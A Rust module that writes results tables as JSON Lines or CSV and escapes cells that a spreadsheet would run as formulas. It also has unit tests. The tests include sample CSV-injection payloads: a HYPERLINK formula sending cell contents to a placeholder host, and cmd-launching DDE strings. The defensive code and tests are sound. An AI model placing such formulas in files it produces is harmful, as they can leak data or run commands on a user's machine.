//! Results as tables: rows of JSON objects written as JSON Lines or CSV.
//!
//! Workflow results and generated records share this: one object per row; CSV columns
//! are the keys in the order they first appear, nested values written as compact JSON
//! so no field is lost.
//!
//! CSV cells (and column names) come from model output, and a spreadsheet runs a cell
//! that starts with `=`, `+`, `-` or `@` (or a tab or carriage return before one) as a
//! formula, which can fetch URLs or run commands: such a cell is written with a leading
//! `'` (OWASP's advice), which spreadsheets show as text. A cell that is a plain number
//! (`-3.5`, `+1e3`) is left as written so numbers stay numbers; no formula is a number.

use std::io::Write;

use serde_json::Value;

use crate::error::{CoreError, Result};

/// A table's file format.
#[derive(Debug, Clone, Copy, PartialEq, Eq, serde::Serialize, serde::Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum TableFormat {
    Jsonl,
    Csv,
}

impl TableFormat {
    /// From a name ("csv", "jsonl") or a file's extension; JSON Lines otherwise.
    pub fn for_name(name: &str) -> TableFormat {
        let lower = name.to_ascii_lowercase();
        if lower == "csv" || lower.ends_with(".csv") {
            TableFormat::Csv
        } else {
            TableFormat::Jsonl
        }
    }

    pub fn extension(self) -> &'static str {
        match self {
            TableFormat::Jsonl => "jsonl",
            TableFormat::Csv => "csv",
        }
    }
}

/// Writes `rows` in `format`; CSV columns are `columns` when given (JSON objects keep
/// no order), else every key.
pub fn write_table(
    rows: &[Value],
    columns: Option<&[String]>,
    format: TableFormat,
    out: impl Write,
) -> Result<()> {
    match format {
        TableFormat::Jsonl => write_jsonl(rows, out),
        TableFormat::Csv => write_csv(rows, columns, out),
    }
}

/// The table as a string (for the API's downloads).
pub fn table_string(
    rows: &[Value],
    columns: Option<&[String]>,
    format: TableFormat,
) -> Result<String> {
    let mut bytes = Vec::new();
    write_table(rows, columns, format, &mut bytes)?;
    Ok(String::from_utf8_lossy(&bytes).into_owned())
}

fn write_error(e: impl std::fmt::Display) -> CoreError {
    CoreError::Io {
        what: "writing the results table".into(),
        source: std::io::Error::other(e.to_string()),
    }
}

fn write_jsonl(rows: &[Value], mut out: impl Write) -> Result<()> {
    for row in rows {
        serde_json::to_writer(&mut out, row).map_err(write_error)?;
        out.write_all(b"\n").map_err(write_error)?;
    }
    out.flush().map_err(write_error)
}

/// The columns of `rows`: every key, in the order it first appears.
pub fn columns(rows: &[Value]) -> Vec<String> {
    let mut columns: Vec<String> = Vec::new();
    for row in rows {
        if let Value::Object(map) = row {
            for key in map.keys() {
                if !columns.contains(key) {
                    columns.push(key.clone());
                }
            }
        }
    }
    columns
}

fn cell(value: Option<&Value>) -> String {
    match value {
        None | Some(Value::Null) => String::new(),
        Some(Value::String(text)) => text.clone(),
        Some(other) => other.to_string(),
    }
}

/// `text` made safe to open in a spreadsheet: a `'` before what would start a formula.
fn defuse(text: String) -> String {
    let risky = text.starts_with(['=', '+', '-', '@', '\t', '\r']);
    if risky && !is_plain_number(&text) {
        format!("'{text}")
    } else {
        text
    }
}

/// A decimal number with an optional sign, fraction and exponent, nothing else.
fn is_plain_number(text: &str) -> bool {
    let digits = |s: &str| !s.is_empty() && s.bytes().all(|b| b.is_ascii_digit());
    let unsigned = text.strip_prefix(['+', '-']).unwrap_or(text);
    let (mantissa, exponent) = match unsigned.split_once(['e', 'E']) {
        Some((m, e)) => (m, Some(e.strip_prefix(['+', '-']).unwrap_or(e))),
        None => (unsigned, None),
    };
    let mantissa_ok = match mantissa.split_once('.') {
        Some((whole, fraction)) => digits(whole) && (fraction.is_empty() || digits(fraction)),
        None => digits(mantissa),
    };
    mantissa_ok && exponent.is_none_or(digits)
}

fn write_csv(rows: &[Value], given: Option<&[String]>, out: impl Write) -> Result<()> {
    let columns = given
        .map(<[String]>::to_vec)
        .unwrap_or_else(|| columns(rows));
    let mut writer = csv::Writer::from_writer(out);
    let header: Vec<String> = columns.iter().cloned().map(defuse).collect();
    writer.write_record(&header).map_err(write_error)?;
    for row in rows {
        let record: Vec<String> = columns.iter().map(|c| defuse(cell(row.get(c)))).collect();
        writer.write_record(&record).map_err(write_error)?;
    }
    writer.flush().map_err(write_error)
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    #[test]
    fn csv_has_every_column_quoted_where_needed_and_nested_values_as_json() {
        let rows = vec![
            json!({"item": "a.txt", "summary": "Line one,\n\"quoted\"", "n": 2}),
            json!({"item": "b.txt", "fields": {"x": [1, 2]}, "error": null}),
        ];
        let csv = table_string(&rows, None, TableFormat::Csv).unwrap();
        expect_test::expect![[r#"
            item,n,summary,error,fields
            a.txt,2,"Line one,
            ""quoted""",,
            b.txt,,,,"{""x"":[1,2]}"
        "#]]
        .assert_eq(&csv);
        let ordered = ["item".to_owned(), "fields".to_owned()];
        let csv = table_string(&rows, Some(&ordered), TableFormat::Csv).unwrap();
        assert_eq!(csv, "item,fields\na.txt,\nb.txt,\"{\"\"x\"\":[1,2]}\"\n");
        let jsonl = table_string(&rows, None, TableFormat::Jsonl).unwrap();
        let back: Vec<Value> = jsonl
            .lines()
            .map(|l| serde_json::from_str(l).unwrap())
            .collect();
        assert_eq!(back, rows);
    }

    /// Cells a spreadsheet would run as formulas are written as text; numbers, and
    /// text that only contains those characters later, are left alone.
    #[test]
    fn csv_cells_that_would_be_formulas_are_written_as_text() {
        let table: &[(Value, &str)] = &[
            (
                json!("=HYPERLINK(\"https://e.example/?\"&A1,\"x\")"),
                "\"'=HYPERLINK(\"\"https://e.example/?\"\"&A1,\"\"x\"\")\"",
            ),
            (json!("+1+cmd|' /C calc'!A0"), "'+1+cmd|' /C calc'!A0"),
            (json!("-2+3+cmd|' /C calc'!A0"), "'-2+3+cmd|' /C calc'!A0"),
            (json!("@SUM(A1:A9)"), "'@SUM(A1:A9)"),
            (json!("\t=1+1"), "'\t=1+1"),
            (json!("\r=1+1"), "\"'\r=1+1\""),
            (json!("- a list item"), "'- a list item"),
            (json!("-"), "'-"),
            (json!("-3.5"), "-3.5"),
            (json!("+42"), "+42"),
            (json!("-1e-3"), "-1e-3"),
            (json!(-3.5), "-3.5"),
            (json!(-7), "-7"),
            (json!("a=b"), "a=b"),
            (json!("plain"), "plain"),
            (json!(" =1"), " =1"),
        ];
        for (value, expected) in table {
            let rows = vec![json!({ "v": value })];
            let csv = table_string(&rows, None, TableFormat::Csv).unwrap();
            assert_eq!(csv, format!("v\n{expected}\n"), "for {value}");
        }
        let rows = vec![json!({ "=cmd": 1 })];
        let csv = table_string(&rows, None, TableFormat::Csv).unwrap();
        assert_eq!(csv, "'=cmd\n1\n");
        // JSON Lines is data, not a spreadsheet: written as it is.
        let jsonl = table_string(&[json!({ "v": "=1+1" })], None, TableFormat::Jsonl).unwrap();
        assert_eq!(jsonl, "{\"v\":\"=1+1\"}\n");
    }
}
